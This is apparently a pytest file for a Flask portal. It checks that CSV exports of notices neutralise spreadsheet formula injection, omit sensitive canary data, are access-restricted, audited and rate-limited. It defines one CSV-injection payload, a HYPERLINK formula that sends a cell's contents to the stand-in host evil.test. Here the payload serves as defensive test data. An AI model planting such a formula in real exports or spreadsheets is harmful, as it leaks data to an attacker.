"""Property 21: exports are minimal, safe and restricted (docs/threats.md#property-21)."""

from __future__ import annotations

import csv
import io

from flask import Flask
from sqlalchemy import select

from portal.domain.models import Agency, AuditEvent, Partnership, Role
from portal.services import exports
from portal.web.database import session_factory
from tests.helpers import (
    CANARY_NAME,
    CANARY_NARRATIVE,
    CANARY_NHS,
    Accounts,
    appendix1_answers,
    contact_id,
    raise_notice,
    sign_in,
)

HOSTILE_AGENCY = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def test_neutralise_disarms_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "|", "%"):
        assert exports.neutralise(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert exports.neutralise("ROC-2026-0001") == "ROC-2026-0001"
    assert exports.neutralise(3) == "3" and exports.neutralise(None) == ""


def test_exports_are_minimal_safe_and_restricted(app: Flask, accounts: Accounts) -> None:
    # A raising agency whose name is a formula: its cell must arrive as text.
    with session_factory(app)() as db:
        rochdale = db.execute(select(Partnership).where(Partnership.slug == "rochdale")).scalar_one()
        db.add(Agency(partnership_id=rochdale.id, name=HOSTILE_AGENCY, sender_note="", position=99))
        db.commit()
    raiser = accounts.make(Role.PRACTITIONER, agency=HOSTILE_AGENCY)
    bm = accounts.make(Role.BUSINESS_MANAGER)
    client, manager = app.test_client(), app.test_client()
    sign_in(client, app, raiser)
    sign_in(manager, app, bm)
    _notice_id, reference = raise_notice(client, appendix1_answers(contact_id(app, "Rochdale Children's Social Care")))

    response = manager.get("/business/notices.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="ROC-notices-')
    assert "no-store" in response.headers["Cache-Control"]
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    # The header first, so a plain import works; the marking in the file name and the last row.
    assert rows[0] == list(exports.COLUMNS)
    assert rows[-1][0].startswith("OFFICIAL-SENSITIVE") and len(rows[-1]) == len(exports.COLUMNS)
    assert response.headers["Content-Disposition"].endswith('-OFFICIAL-SENSITIVE.csv"')
    [row] = rows[1:-1]
    assert row[0] == reference and row[5] == "'" + HOSTILE_AGENCY
    assert row[8] == "Stage 3" and row[10] == "Open"
    for secret in (CANARY_NAME, CANARY_NHS, CANARY_NHS.replace(" ", ""), CANARY_NARRATIVE, "29/02/2016", "2016-02-29"):
        assert secret not in text

    # Audited with its row count; nobody but the business unit may export (practitioners get 404).
    with session_factory(app)() as db:
        entry = db.execute(select(AuditEvent).where(AuditEvent.action == "notice.export")).scalar_one()
        assert (entry.actor_id, entry.outcome, entry.object_id) == (bm.id, "ok", "rows=1")
    assert client.get("/business/notices.csv").status_code == 404

    # A per-user cap: the eleventh export in an hour is refused and the refusal audited.
    for _ in range(exports.EXPORTS_PER_HOUR - 1):
        assert manager.get("/business/notices.csv").status_code == 200
    refused = manager.get("/business/notices.csv")
    assert refused.status_code == 429 and reference not in refused.get_data(as_text=True)
    with session_factory(app)() as db:
        outcomes = (
            db.execute(
                select(AuditEvent.outcome).where(AuditEvent.action == "notice.export", AuditEvent.actor_id == bm.id)
            )
            .scalars()
            .all()
        )
        assert outcomes.count("ok") == exports.EXPORTS_PER_HOUR and outcomes.count("denied") == 1
